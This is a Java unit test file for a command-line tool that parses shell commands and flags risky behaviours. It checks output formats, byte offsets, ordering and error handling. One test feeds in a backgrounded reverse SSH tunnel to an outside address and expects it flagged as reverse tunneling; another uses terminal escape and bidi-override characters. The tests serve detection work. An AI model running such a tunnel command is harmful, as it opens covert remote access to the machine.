package dev.offscript.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

/** {@code offscript commands}: lines in, lines out, each where it was. */
class CommandsTest {

  @Test
  void aTextIsOneJsonObject() {
    Cli.Result result = Cli.launch("commands", "sudo nohup ls -l > /tmp/list &");
    assertThat(result.code()).isZero();
    assertThat(result.output())
        .isEqualTo(
            "{\"line\":1,\"commands\":[{\"argv\":[\"ls\",\"-l\"],\"redirects\":[\">/tmp/list\"],"
                + "\"via\":[\"sudo\",\"nohup\"],\"background\":true,\"state\":\"executed\","
                + "\"start\":0,\"end\":28}],\"behaviours\":[]}\n");
  }

  @Test
  void placesAreBytesOfTheText() {
    String text = "echo '\u4e2d\u6587 \ud83d\ude80'; ls";
    String output = Cli.launch("commands", text).output();
    byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
    int start = bytes.length - 2;
    assertThat(output)
        .contains("\"start\":0,\"end\":" + (start - 2))
        .contains("\"start\":" + start + ",\"end\":" + bytes.length);
  }

  @Test
  void aPersonReadsLines() {
    Cli.Result result =
        Cli.launch(
            "commands", "--format", "text", "setsid ssh -N -R 7022:localhost:22 a@203.0.113.9 &");
    assertThat(result.output())
        .isEqualTo(
            """
            line 1
              executed   ssh -N -R 7022:localhost:22 a@203.0.113.9
                         via setsid; in the background
                         -> tunneling, reverse, 203.0.113.9:22 (ssh, high, T1572): ssh -R opens a port on the
                         server that leads back here
            """);
  }

  @Test
  void whatATerminalWouldActOnIsMadeVisible() {
    Cli.Result result = Cli.launch("commands", "--format", "text", "echo '\033[2J\u202e'");
    assertThat(result.output()).doesNotContain("\033").doesNotContain("\u202e").contains("echo");
  }

  @Test
  void manyLinesKeepTheirOrderWithAnyNumberOfWorkers() {
    String lines =
        IntStream.range(0, 5_000)
            .mapToObj(n -> "echo " + n + " | tee out-" + n)
            .collect(Collectors.joining("\n"));
    String one = Cli.launchWith(lines, "commands", "--threads", "1", "-").output();
    String four = Cli.launchWith(lines, "commands", "--threads", "4", "-").output();
    assertThat(four).isEqualTo(one);
    assertThat(one.lines()).hasSize(5_000);
    assertThat(one.lines().skip(4_999))
        .first()
        .asString()
        .startsWith("{\"line\":5000,")
        .contains("out-4999");
  }

  @Test
  void aStringMayHaveLines() {
    Cli.Result result = Cli.launchWith("\"cat <<E\\nls\\nE\\nid\"\n", "commands", "--ndjson", "-");
    assertThat(result.code()).isZero();
    assertThat(result.output()).contains("\"argv\":[\"cat\"]").contains("\"argv\":[\"id\"]");
  }

  @Test
  void aLineThatIsNoStringKeepsItsPlace() {
    Cli.Result result =
        Cli.launchWith("\"ls\"\n{\"a\":1}\n\"id\" 2\n\"pwd\"\n", "commands", "--ndjson", "-");
    assertThat(result.code()).isEqualTo(4);
    assertThat(result.output().lines()).hasSize(4);
    assertThat(result.output())
        .contains("{\"line\":2,\"commands\":[],\"behaviours\":[],\"error\":\"is no JSON string\"}")
        .contains("{\"line\":3,\"commands\":[],\"behaviours\":[],\"error\":\"is no JSON string\"}")
        .contains("[\"pwd\"]");
    assertThat(result.errors())
        .isEqualTo("offscript: line 2 is no JSON string\noffscript: line 3 is no JSON string\n");
  }

  @Test
  void aLineOfManyMegabytesIsSaidAndPassed() {
    String longest = "x".repeat(CommandTexts.LONGEST_LINE + 1);
    Cli.Result result = Cli.launchWith("ls\n" + longest + "\nid\n", "commands", "-");
    assertThat(result.code()).isEqualTo(4);
    assertThat(result.errors()).isEqualTo("offscript: line 2 is longer than 16 MiB\n");
    assertThat(result.output()).contains("\"line\":3,\"commands\":[{\"argv\":[\"id\"]");
  }

  @Test
  void wrongUsageIsSaid() {
    assertThat(Cli.launch("commands").code()).isEqualTo(2);
    assertThat(Cli.launch("commands", "ls", "--ndjson", "-").errors()).contains("not both");
    assertThat(Cli.launch("commands", "--format", "xml", "ls").errors()).contains("jsonl or text");
    assertThat(Cli.launch("commands", "--threads", "0", "ls").errors()).contains("at least 1");
  }
}
